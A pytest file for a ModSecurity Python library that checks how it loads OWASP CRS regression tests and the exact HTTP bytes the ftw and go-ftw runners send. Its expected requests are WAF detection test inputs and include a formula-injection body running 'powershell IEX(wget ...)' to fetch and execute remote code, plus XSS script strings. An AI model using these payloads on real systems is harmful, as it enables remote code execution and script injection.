"""The CRS regression tests read as the project's runners read them, and the bytes those runners send.

Expected bytes follow ftw 1.3 (CRS 3.x; ftw/ruleset.py + ftw/http.py) and go-ftw (CRS 4.x;
ftwhttp/request.go BuildRequest), worked out by hand from the YAML and those sources.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from modsec_py.testing import ftw
from modsec_py.testing.ftw import (
    FTW,
    GO_FTW,
    FtwError,
    StageInput,
    StageOutput,
    UnparsableRequest,
    UnsupportedTemplate,
    go_template,
    load,
    load_dir,
    parse_request,
    raw_request,
    request_parts,
    test_name,
)
from modsec_py.testing.overrides import FORCE_PASS, IGNORE, load_overrides, parse_overrides
from tests.conftest import SHARED, require

V3 = SHARED / "crs-tests" / "v3.3.4" / "tests"
V4 = SHARED / "crs-tests" / "v4.28.0-format-examples"

# The CRS project's tests/regression/httpd-overrides.yaml and ftw-modsec2-apache.yaml, verbatim.
HTTPD_OVERRIDES = """\
version: "v0.0.0"
meta:
  engine: "ModSecurity v2"
  platform: "httpd"
  annotations:
    - purpose: "CRS test suite"
test_overrides:
  - rule_id: 920360
    test_ids: [1]
    reason: Requires ARG_NAME_LENGTH to be set to an appropriately low value
    output:
      status: 200
      log:
        no_expect_ids: [920360]
  - rule_id: 920370
    test_ids: [1]
    reason: Exceeds PCRE limits, currently segfaults on the CI
    output:
      expect_error: true
      log:
        no_expect_ids: [920360]
  - rule_id: 920380
    test_ids: [1]
    reason: Requires MAX_NUM_ARGS to be set to a sufficiently low value
    output:
      status: 200
      log:
        no_expect_ids: [920280]
  - rule_id: 920390
    test_ids: [1]
    reason: Exceeds PCRE limits, currently segfaults on the CI
    output:
      expect_error: true
      log:
        no_expect_ids: [920390]
"""
FTW_CONFIG = """\
---
version: "v0.0.0"
meta:
  engine: "ModSecurity v2"
  platform: "httpd"
  annotations:
    - purpose: "CRS test suite"
logfile: /logs/modsec2-apache/error.log
mode: default
maxmarkerloglines: 2000
testoverride:
  input:
    dest_addr: modsec2-apache
    port: 8080
  ignore:
    920360-1: "Requires ARG_NAME_LENGTH to be set to an appropriately low value"
    920380-1: "Requires MAX_NUM_ARGS to be set to a sufficiently low value"
"""


@pytest.fixture(scope="module")
def v3_files() -> list[ftw.FtwFile]:
    return load_dir(require(V3, "CRS 3.3.4 regression tests"))


@pytest.fixture(scope="module")
def v4_files() -> list[ftw.FtwFile]:
    return load_dir(require(V4, "go-ftw format examples of CRS 4.28.0"))


@pytest.fixture(scope="module")
def v3_tests(v3_files: list[ftw.FtwFile]) -> dict[str, ftw.FtwTest]:
    found: dict[str, ftw.FtwTest] = {}
    for test_file in v3_files:
        for test in test_file.tests:
            found.setdefault(test_name(test_file, test), test)
    return found


def v3_input(v3_tests: dict[str, ftw.FtwTest], name: str) -> StageInput:
    return v3_tests[name].stages[0].input


# ------------------------------------------------------------------------------------------------ loading


def test_every_v3_file_loads_with_the_counts_the_crs_project_reports(v3_files: list[ftw.FtwFile]) -> None:
    assert len(v3_files) == 178
    assert all(test_file.format == FTW for test_file in v3_files)
    tests = [test for test_file in v3_files for test in test_file.tests]
    assert len(tests) == 2403
    assert sum(len(test.stages) for test in tests) == 2403
    # meta.enabled: false removes 7 tests; 2,396 is the number CRS reports passing on ModSecurity v2
    assert sum(test.enabled for test in tests) == 2396
    disabled = {test_file.path.name: len(test_file.tests) for test_file in v3_files if not test_file.enabled}
    assert disabled == {"920250.yaml": 3, "920360.yaml": 1, "920370.yaml": 1, "920380.yaml": 1, "920390.yaml": 1}


def test_the_v3_quirks_are_reported(v3_files: list[ftw.FtwFile]) -> None:
    quirks = {test_file.path.name: test_file.quirks for test_file in v3_files if test_file.quirks}
    assert quirks == {
        "920330.yaml": ("meta.name is '920320.yaml', not the file name",),
        "921140.yaml": tuple(
            f"921140-{n} stage 0: no_log_contains 'id:921140' matches no ModSecurity [id \"N\"] (a vacuous check)"
            for n in (1, 2)
        ),
        "941160.yaml": ("test name '941160-10' used twice",),
    }


def test_every_v4_example_loads(v4_files: list[ftw.FtwFile]) -> None:
    assert [(f.path.name, f.format, f.rule_id, len(f.tests)) for f in v4_files] == [
        ("911100.yaml", GO_FTW, 911100, 8), ("953101.yaml", GO_FTW, 953101, 6),
    ]
    assert [test_name(v4_files[0], test) for test in v4_files[0].tests][:2] == ["911100-1", "911100-2"]
    assert all(not f.quirks for f in v4_files)


def test_v3_fields_are_normalised(v3_tests: dict[str, ftw.FtwTest]) -> None:
    test = v3_tests["920330-1"]
    assert (test.title, test.test_id, test.rule_id, test.description) == ("920330-1", 1, 920330, None)
    stage_input = test.stages[0].input
    assert stage_input.runner == FTW
    assert (stage_input.dest_addr, stage_input.port) == ("127.0.0.1", 80)
    assert (stage_input.method, stage_input.uri, stage_input.version) == (None, None, None)
    assert stage_input.headers == (("User-Agent", ""), ("Host", "localhost"))
    assert v3_tests["944200-0FP"].test_id is None
    assert v3_input(v3_tests, "920240-1").headers[-1] == ("Content-Length", "11")  # a YAML int, sent as str()
    assert v3_input(v3_tests, "920240-1").stop_magic and not v3_input(v3_tests, "920240-1").autocomplete_headers
    output = v3_tests["932100-3"].stages[0].output
    assert output.status == (403, 400) and output.log_contains is None


def test_expects_and_forbids_read_both_formats(v3_tests: dict[str, ftw.FtwTest], v4_files: list[ftw.FtwFile]) -> None:
    assert v3_tests["920330-1"].stages[0].output.expects(920330)
    assert v3_tests["920330-1"].stages[0].output.expected_ids == {920330}
    assert v3_tests["920100-1"].stages[0].output.forbids(920100)
    assert not v3_tests["921140-1"].stages[0].output.forbids(921140)  # 'id:921140' never matches the log
    assert v3_tests["930120-4"].stages[0].output.expects(930120)  # a bare '930120'
    assert v3_tests["942480-1"].stages[0].output.expects(942480)  # 'id "942480' (no closing quote)
    go_tests = v4_files[0].tests
    assert go_tests[0].stages[0].output.forbids(911100) and not go_tests[0].stages[0].output.expects(911100)
    assert go_tests[4].stages[0].output.expects(911100) and go_tests[4].stages[0].output.expected_ids == {911100}
    # go-ftw reads log_contains only when neither expect_ids nor match_regex is given
    both = StageOutput(log_contains='id "1"', expect_ids=(2,))
    assert both.expects(2) and not both.expects(1)
    assert StageOutput(match_regex=r'id "3\d"').expects(31)


def test_yaml_quirks_are_handled_and_reported(tmp_path: Path) -> None:
    path = tmp_path / "900001.yaml"
    path.write_bytes(
        b"meta: {author: x, enabled: true, name: 900001.yaml}\n"
        b"tests:\n"
        b"  - test_title: 900001-1\n"
        b"    stages:\n"
        b"      - stage:\n"
        b"          input:\n"
        b"            headers: {Host: a, Host: b, X-Latin1: \"\xe9\"}\n"
        b"            data: [one, two]\n"
        b"          output: {}\n"
    )
    test_file = load(path)
    assert test_file.quirks == (
        "not UTF-8: read as latin-1 (ftw and go-ftw would refuse the file)",
        "line 7: duplicate key 'Host', the last value wins (as in PyYAML and ftw; go-ftw refuses it)",
        "900001-1 stage 0: no status, log_contains, no_log_contains, response_contains or expect_error "
        "(ftw refuses such an output)",
    )
    stage_input = test_file.tests[0].stages[0].input
    assert stage_input.headers == (("Host", "b"), ("X-Latin1", "\xe9"))
    assert stage_input.data == b"one\r\ntwo"


def test_scalar_values_as_each_runner_reads_them(tmp_path: Path) -> None:
    # ftw sends str() of PyYAML's YAML 1.1 value; go-ftw (yaml.v3 into string fields) the scalar's text
    headers = b"{A: 0300, B: yes, C: , D: 1.50}"
    (tmp_path / "900002.yaml").write_bytes(
        b"meta: {enabled: true, name: 900002.yaml}\ntests:\n  - test_title: 900002-1\n    stages:\n"
        b"      - stage: {input: {headers: " + headers + b"}, output: {status: 200}}\n")
    (tmp_path / "900003.yaml").write_bytes(
        b"rule_id: 900003\ntests:\n  - stages:\n      - input: {headers: " + headers + b"}\n"
        b"        output: {status: 200}\n")
    ftw_input = load(tmp_path / "900002.yaml").tests[0].stages[0].input
    go_file = load(tmp_path / "900003.yaml")
    assert ftw_input.headers == (("A", "192"), ("B", "True"), ("C", "None"), ("D", "1.5"))
    assert go_file.tests[0].stages[0].input.headers == (("A", "0300"), ("B", "yes"), ("C", ""), ("D", "1.50"))
    assert test_name(go_file, go_file.tests[0]) == "900003-1"  # test_id defaults to the position


def test_load_rejects_what_is_not_a_test_file(tmp_path: Path) -> None:
    (tmp_path / "x.yaml").write_text("just: a mapping\n")
    with pytest.raises(FtwError):
        load(tmp_path / "x.yaml")
    (tmp_path / "y.yaml").write_text("tests: [\n")
    with pytest.raises(FtwError):
        load(tmp_path / "y.yaml")


# ------------------------------------------------------------------------------------------- ftw (3.x)

FTW_WIRE = {
    # a header with an empty value; no method, uri or version: ftw's defaults
    "920330-1": b"GET / HTTP/1.1\r\nUser-Agent: \r\nHost: localhost\r\n\r\n",
    "920290-1": b"GET / HTTP/1.1\r\nUser-Agent: ModSecurity CRS 3 Tests\r\nHost: \r\n\r\n",
    # a malformed request line goes out as written
    "920100-2": b"     GET / HTTP/1.1\r\nUser-Agent: ModSecurity CRS 3 Tests\r\nHost: localhost\r\n\r\n",
    # magic on: Content-Type and Content-Length appended, the data re-encoded by parse_qsl + urlencode
    "942410-90": b"POST / HTTP/1.0\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                 b"Content-Length: 11\r\n\r\npay=sin+%28",
    "941360-3": b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                b"Content-Length: 15\r\n\r\na=+%21%21%5B%5D",
    # data holding %XX escapes already: left alone, Content-Type and Content-Length still added
    "941110-6": b"POST / HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nUser-Agent: ModSecurity CRS 3 Tests\r\n"
                b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 59\r\n\r\n"
                b"var=%uff1cscript%u0020%uff1ealert%281%29%uff1c/script%uff1e",
    # stop_magic: no Content-Length though there is a body
    "920180-1": b"POST / HTTP/1.1\r\nUser-Agent: ModSecurity CRS 3 Tests\r\nHost: localhost\r\n"
                b"Content-Type: application/x-www-form-urlencoded\r\n\r\nhi=test",
    # Content-Length given in the file (a YAML int)
    "920240-1": b"POST / HTTP/1.1\r\nUser-Agent: ModSecurity CRS 3 Tests\r\nHost: localhost\r\n"
                b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 11\r\n\r\nx=new %w20$",
    # data as a list of lines, joined with CRLF (no final CRLF); Content-Length counted and appended
    "920120-1": b"POST / HTTP/1.1\r\nUser-Agent: ModSecurity CRS 3 Tests\r\nHost: localhost\r\nAccept: */*\r\n"
                b"Accept-Language: en\r\nConnection: close\r\nReferer: http://localhost/\r\n"
                b"Content-Type: multipart/form-data; boundary=--------397236876\r\nContent-Length: 166\r\n\r\n"
                b"----------397236876\r\n"
                b'Content-Disposition: form-data; name="fileRap"; filename="file=.txt"\r\n'
                b"Content-Type: text/plain\r\n\r\n555-555-0199@example.com\r\n----------397236876--",
    # non-ASCII header values go out UTF-8
    "941110-8": b"GET / HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nUser-Agent: ModSecurity CRS 3 Tests\r\n"
                b"Cookie: \xef\xbc\x9cscript \xef\xbc\x9ealert(1)\xef\xbc\x9c/script\xef\xbc\x9e=value\r\n\r\n",
    # encoded_request: the decoded bytes, bare LFs and backslashes untouched
    "932100-3": b"POST /index.html HTTP/1.1\nHost: 192.168.1.23\nUser-Agent: curl/7.43.0\nAccept: */*\n"
                b"Content-Length: 64\nContent-Type: application/x-www-form-urlencoded\nConnection: close\n\n"
                b"d=1;2;3;4;5\\n1;@SUM(1+1)*cmd|' powershell IEX(wget 0r.pe/p)'\\!A0;3",
    # raw_request: UTF-8 bytes read back through unicode_escape, then UTF-8 again (mojibake)
    "944200-0FP": b"POST / HTTP/1.0\r\nHost: localhost\r\nUser-Agent: ModSecurity CRS 3 Tests\r\n"
                  b"Accept: text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,"
                  b"image/png,*/*;q=0.5\r\nAccept-Charset: ISO-8859-1,utf-8;q=0.7,*;q=0.7\r\n"
                  b"Accept-Encoding: gzip,deflate\r\nAccept-Language: en-us,en;q=0.5\r\n"
                  b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 9\r\n\r\n"
                  b"test=\xc3\x82\xc2\xac\xc3\x83\xc2\xad\x00\x05\r\n\r\n",
}


@pytest.mark.parametrize("name", sorted(FTW_WIRE))
def test_ftw_wire_bytes(v3_tests: dict[str, ftw.FtwTest], name: str) -> None:
    assert raw_request(v3_input(v3_tests, name)) == FTW_WIRE[name]


def test_encoded_request_is_the_base64_decoded_bytes(v3_tests: dict[str, ftw.FtwTest]) -> None:
    stage_input = v3_input(v3_tests, "944200-1")
    assert raw_request(stage_input) == base64.b64decode(stage_input.encoded_request or "")
    assert raw_request(stage_input).endswith(b"\r\n\r\ntest=\xac\xed\x00\x05\r\n\r\n")


def test_ftw_magic_details() -> None:
    def wire(**fields: object) -> bytes:
        return raw_request(StageInput(runner=FTW, **fields))  # type: ignore[arg-type]

    # parse_qsl drops blank values; the Content-Length counts characters, not bytes
    assert wire(method="POST", data=b"a=&b=1").endswith(b"Content-Length: 3\r\n\r\nb=1")
    assert wire(method="POST", data="x=\u00e9".encode(), headers=(("Content-Type", "text/plain"),)).endswith(
        b"Content-Type: text/plain\r\nContent-Length: 3\r\n\r\nx=\xc3\xa9")
    # the body is encoded with the Content-Type's charset, then read back as UTF-8
    latin1 = (("Content-Type", "text/plain; charset=iso-8859-1"),)
    with pytest.raises(FtwError):
        wire(method="POST", data="x=\u00e9".encode(), headers=latin1)
    assert wire(method="POST", data=b"x=1", headers=latin1).endswith(b"\r\n\r\nx=1")
    # ftw fills placeholders with str.replace, one after the other, values included
    assert wire(uri="/#version#") == b"GET /HTTP/1.1 HTTP/1.1\r\n\r\n"
    assert wire(method="GET", version="") == b"GET / \r\n\r\n"
    with pytest.raises(FtwError):
        wire(raw_request="x", encoded_request="eA==")


# ---------------------------------------------------------------------------------------- go-ftw (4.x)


def test_go_ftw_wire_bytes_of_the_examples(v4_files: list[ftw.FtwFile]) -> None:
    method_test, json_test = v4_files[0].tests, v4_files[1].tests
    accept = b"Accept: text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,"
    accept += b"image/png,*/*;q=0.5"
    # headers sorted by name; Connection: close always; Content-Type and Content-Length with data
    assert raw_request(method_test[3].stages[0].input) == (
        b"POST /post HTTP/1.1\r\n" + accept + b"\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        b"Host: localhost\r\nUser-Agent: OWASP CRS test agent\r\nConnection: close\r\nContent-Length: 10\r\n\r\n"
        b"test=value"
    )
    assert raw_request(method_test[0].stages[0].input) == (
        b"GET /get HTTP/1.1\r\n" + accept + b"\r\nHost: localhost\r\nUser-Agent: OWASP CRS test agent\r\n"
        b"Connection: close\r\n\r\n"
    )
    # DELETE may carry a body: Content-Length: 0 without data; Keep-Alive is a quoted YAML string
    assert raw_request(method_test[5].stages[0].input).endswith(
        b"Keep-Alive: 300\r\nProxy-Connection: keep-alive\r\nUser-Agent: OWASP CRS test agent\r\n"
        b"Connection: close\r\nContent-Length: 0\r\n\r\n")
    assert raw_request(json_test[0].stages[0].input) == (
        b"POST /reflect HTTP/1.1\r\n" + accept + b"\r\nAccept-Encoding: gzip,deflate\r\n"
        b"Accept-Language: en-us,en;q=0.5\r\nContent-Type: application/json\r\nHost: localhost\r\n"
        b"User-Agent: OWASP CRS test agent\r\nConnection: close\r\nContent-Length: 46\r\n\r\n"
        b'{"body": "Maximum allowed file size is 10 MB"}'
    )


def go(**fields: object) -> bytes:
    return raw_request(StageInput(runner=GO_FTW, **fields))  # type: ignore[arg-type]


def test_go_ftw_autocompletion() -> None:
    assert go() == b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n"
    # autocomplete_headers: false sends only what is written, a body without Content-Length included
    assert go(method="POST", data=b"a=<b>", autocomplete_headers=False, stop_magic=True) == (
        b"POST / HTTP/1.1\r\n\r\na=<b>")
    # urlencoded data escaped pair by pair with url.QueryEscape, unless it holds '%' or '+'
    assert go(method="POST", data=b"a=<b c>&d&e=f=g").endswith(
        b"Content-Length: 21\r\n\r\na=%3Cb+c%3E&d&e=f%3Dg")
    assert go(method="POST", data=b"a=%41+b").endswith(b"\r\n\r\na=%41+b")
    # an existing header of any case counts; its value decides the encoding
    assert go(method="PUT", data=b"a=b c", headers=(("content-type", "text/plain"), ("connection", "keep-alive"))) == (
        b"PUT / HTTP/1.1\r\nconnection: keep-alive\r\ncontent-type: text/plain\r\nContent-Length: 5\r\n\r\na=b c")
    # Go's regex `^POST|PUT|PATCH|DELETE$` decides which methods get Content-Length: 0
    assert b"Content-Length: 0" in go(method="XPUTX") and b"Content-Length" not in go(method="DELETEX")
    # multipart: every LF becomes CRLF (so CRLF becomes CR CR LF)
    multipart = (("Content-Type", "multipart/form-data; boundary=x"),)
    assert go(method="POST", headers=multipart, data=b"--x\na\r\n--x--").endswith(
        b"Content-Length: 14\r\n\r\n--x\r\na\r\r\n--x--")


def test_go_ftw_encoded_request_and_data() -> None:
    assert go(encoded_request=base64.b64encode(b"GET /\n\n").decode(), headers=(("Host", "x"),)) == b"GET /\n\n"
    with pytest.raises(FtwError):
        go(encoded_request="not base64!")
    assert go(method="POST", encoded_data=base64.b64encode(b"\xff\x00").decode(), autocomplete_headers=False) == (
        b"POST / HTTP/1.1\r\n\r\n\xff\x00")
    # data is a Go template; one Go cannot parse means no body at all
    assert go(method="POST", data=b'x={{ "ab" | repeat 3 }}').endswith(b"Content-Length: 8\r\n\r\nx=ababab")
    assert go(method="POST", data=b"x={{7*7}}").endswith(b"Content-Length: 0\r\n\r\n")


def test_go_templates() -> None:
    assert go_template('{{ repeat 2 "ab" }}-{{ "c" | upper }}') == "abab-C"
    assert go_template('a {{- " b " -}} c{{/* note */}}') == "a b c"
    assert go_template('{{ "{{" }}x}}') == "{{x}}"
    assert go_template('{{ print 1 2 "a" 3 }}|{{ printf "%s=%d" "n" 4 }}') == "1 2a3|n=4"
    assert go_template('{{ "\\x41\\u00e9" }}{{ `\\n` }}') == "A\u00e9\\n"
    with pytest.raises(UnsupportedTemplate):
        go_template("{{ .Env }}")
    with pytest.raises(UnsupportedTemplate):
        go_template("{{ randAlphaNum 5 }}")


def test_marker_requests_and_uris() -> None:
    assert ftw.marker_request("0f-s") == (
        b"GET /status/200 HTTP/1.1\r\nAccept: */*\r\nUser-Agent: go-ftw test agent\r\nHost: localhost\r\n"
        b"X-CRS-Test: 0f-s\r\nConnection: close\r\n\r\n")
    assert ftw.marker_request("920330-1", FTW) == (
        b"GET / HTTP/1.0\r\nHost: localhost\r\nUser-Agent: CRS\r\nAccept: */*\r\nX-CRS-Test: 920330-1\r\n\r\n")
    several = StageInput(uri="/x", uris=("/a", "/b"))
    assert [item.uri for item in ftw.expand_uris(several)] == ["/a", "/b"]
    assert ftw.expand_uris(StageInput(uri="/x")) == [StageInput(uri="/x")]


# ------------------------------------------------------------------------------------------ request_parts


def test_request_parts_agree_with_raw_request(v3_files: list[ftw.FtwFile], v4_files: list[ftw.FtwFile]) -> None:
    unparsable = []
    for test_file, test, _, stage in ftw.iter_stages([*v3_files, *v4_files]):
        wire = raw_request(stage.input)
        try:
            parts = request_parts(stage.input)
        except UnparsableRequest:
            unparsable.append(test_name(test_file, test))
            continue
        head = wire[:len(wire) - len(parts.body)]
        if b"\n" not in head.replace(b"\r\n", b""):  # CRLF throughout: the parts rebuild the bytes
            rebuilt = b"%s %s %s\r\n" % (parts.method, parts.uri, parts.version)
            rebuilt += b"".join(b"%s: %s\r\n" % pair for pair in parts.headers) + b"\r\n" + parts.body
            assert rebuilt == wire, test_name(test_file, test)
        assert wire.endswith(parts.body)
    assert unparsable == ["920100-2"]


def test_request_parts_of_odd_requests(v3_tests: dict[str, ftw.FtwTest]) -> None:
    parts = request_parts(v3_input(v3_tests, "932100-3"))  # bare LF line ends
    assert (parts.method, parts.uri, parts.version) == (b"POST", b"/index.html", b"HTTP/1.1")
    assert parts.header(b"content-type") == b"application/x-www-form-urlencoded"
    assert parts.content_length == 64 and parts.body.startswith(b"d=1;2;3;4;5\\n")
    with pytest.raises(UnparsableRequest):
        request_parts(v3_input(v3_tests, "920100-2"))
    assert parse_request(b"\r\nGET /a b HTTP/1.0\r\nX:  v \r\n\tw\r\n\r\n") == ftw.RequestParts(
        b"GET", b"/a b", b"HTTP/1.0", [(b"X", b"v w")], b"")
    assert parse_request(b"GET /\r\n\r\n").version == b""
    for broken in (b"GET / HTTP/1.1", b"GET / HTTP/1.1\r\nHost: x\r\n", b"GET / HTTP/1.1\r\nNoColon\r\n\r\n",
                   b"GET\r\n\r\n", b"GET / HTTP/1.1\r\n folded\r\n\r\n"):
        with pytest.raises(UnparsableRequest):
            parse_request(broken)


# ---------------------------------------------------------------------------------------------- overrides


def test_platform_overrides_parse_and_replace_the_output(v3_tests: dict[str, ftw.FtwTest], tmp_path: Path) -> None:
    path = tmp_path / "httpd-overrides.yaml"
    path.write_text(HTTPD_OVERRIDES)
    overrides = load_overrides(path)
    assert (overrides.version, overrides.engine, overrides.platform) == ("v0.0.0", "ModSecurity v2", "httpd")
    assert overrides.annotations == (("purpose", "CRS test suite"),)
    assert [(o.rule_id, o.test_ids, o.stage_ids) for o in overrides.test_overrides] == [
        (920360, (1,), ()), (920370, (1,), ()), (920380, (1,), ()), (920390, (1,), ()),
    ]
    test = v3_tests["920360-1"]
    assert test.stages[0].output.expects(920360)
    replaced = overrides.apply(test.stages[0].output, test.rule_id, test.test_id)
    assert replaced == StageOutput(status=(200,), no_expect_ids=(920360,))
    assert replaced.forbids(920360) and not replaced.expects(920360)
    assert overrides.apply_to_test(test).stages[0].output == replaced
    untouched = v3_tests["920330-1"].stages[0].output
    assert overrides.apply(untouched, 920330, 1) is untouched
    assert overrides.apply(untouched, 920360, 2) is untouched
    assert overrides.for_test(920370, 1)[0].output.expect_error is True


def test_override_scopes_and_retry_once() -> None:
    overrides = parse_overrides({"test_overrides": [
        {"rule_id": 1, "reason": "all tests", "output": {"status": 403}},
        {"rule_id": 1, "test_ids": [2], "stage_ids": [1], "retry_once": True, "reason": "r",
         "output": {"log": {"expect_ids": [1]}}},
    ]})
    assert overrides.apply(StageOutput(), 1, 7) == StageOutput(status=(403,))
    assert overrides.apply(StageOutput(), 1, 2, stage_index=0) == StageOutput(status=(403,))
    assert overrides.apply(StageOutput(), 1, 2, stage_index=1) == StageOutput(expect_ids=(1,), retry_once=True)


def test_go_ftw_config_overrides(tmp_path: Path) -> None:
    path = tmp_path / "ftw-modsec2-apache.yaml"
    path.write_text(FTW_CONFIG)
    overrides = load_overrides(path)
    assert overrides.settings == {"logfile": "/logs/modsec2-apache/error.log", "mode": "default",
                                  "maxmarkerloglines": 2000}
    assert overrides.forced("920360-1") == (IGNORE, "Requires ARG_NAME_LENGTH to be set to an appropriately low value")
    assert overrides.forced("920360-10") is not None  # unanchored, as go-ftw's MatchString
    assert overrides.forced("920370-1") is None
    moved = overrides.input.apply(StageInput(runner=GO_FTW, dest_addr="127.0.0.1", port=80))
    assert (moved.dest_addr, moved.port) == ("modsec2-apache", 8080)
    assert parse_overrides({"testoverride": {"forcepass": {"^1-": "x"}}}).forced("1-1") == (FORCE_PASS, "x")


def test_input_overrides_set_headers_like_go_ftw() -> None:
    overrides = parse_overrides({"testoverride": {"input": {
        "dest_addr": "waf", "override_empty_host_header": True, "headers": {"user-agent": "ua"},
        "autocomplete_headers": False,
    }}})
    stage_input = StageInput(runner=GO_FTW, headers=(("User-Agent", "x"), ("Accept", "*/*")))
    changed = overrides.input.apply(stage_input)
    assert changed.headers == (("Accept", "*/*"), ("Host", "waf"), ("user-agent", "ua"))
    assert not changed.autocomplete_headers and changed.stop_magic
    assert raw_request(changed) == b"GET / HTTP/1.1\r\nAccept: */*\r\nHost: waf\r\nuser-agent: ua\r\n\r\n"
    kept = overrides.input.apply(StageInput(runner=GO_FTW, headers=(("Host", ""),)))
    assert kept.headers == (("Host", ""), ("user-agent", "ua"))  # only an absent Host is filled in
